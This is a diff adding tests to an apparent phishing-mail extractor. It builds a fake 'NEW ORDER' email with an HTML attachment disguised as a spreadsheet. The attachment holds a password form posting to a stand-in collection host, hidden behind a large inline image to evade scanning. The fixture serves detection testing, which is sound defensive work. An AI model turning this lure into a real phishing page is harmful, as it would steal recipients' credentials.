@@ -111,3 +111,31 @@ def test_tokens_fold_styled_letters_and_skip_the_collectors_headers() -> None:
     assert "s:free" in tok  # mathematical bold F R E E
     assert not [t for t in tok if "delivered-to" in t or "x-status" in t or "2002" in t]
     assert "rh:deals.example" in tok and "rh:corpus.example" in tok
+
+
+def _html_attachment(page: str) -> bytes:
+    import base64
+
+    body = base64.encodebytes(page.encode()).decode().replace("\n", "\r\n")
+    return (b"From: Susan <info@sender.test>\r\nTo: bob@example.com\r\nSubject: NEW ORDER\r\n"
+            b"Message-ID: <po1@sender.test>\r\nMIME-Version: 1.0\r\n"
+            b'Content-Type: multipart/mixed; boundary="B"\r\n\r\n--B\r\nContent-Type: text/plain\r\n\r\nSee the order.\r\n'
+            b'--B\r\nContent-Type: text/html; name="PO45638.Xls.htm"\r\nContent-Disposition: attachment; '
+            b'filename="PO45638.Xls.htm"\r\nContent-Transfer-Encoding: base64\r\n\r\n' + body.encode() + b"--B--\r\n")
+
+
+def test_a_form_behind_a_big_inline_picture_is_still_read() -> None:
+    """Phishing pages carry their background inline (a base64 data: URI of 100 KB and more) before the login
+    form: the markup read from an attachment leaves the pictures' payloads out, so the form is in it."""
+    import base64
+    import os
+
+    picture = base64.b64encode(os.urandom(120_000)).decode()
+    form = '<form method="post" action="https://collect.test/x.php"><input name="passwd" type="password"></form>'
+    page = f'<html><style>.bg {{ background-image: url("data:image/jpeg;base64,{picture}"); }}</style>{form}</html>'
+    f = extract_bytes(_html_attachment(page))
+    assert 'name="passwd" type="password"' in f.attached_markup
+    assert "data:image/jpeg;base64," in f.attached_markup and picture[:64] not in f.attached_markup
+    # without pictures nothing is dropped, and what is read stays bounded
+    plain = extract_bytes(_html_attachment("<p>" + "x" * 200_000 + "</p>" + form))
+    assert len(plain.attached_markup) == 64 * 1024 and "passwd" not in plain.attached_markup
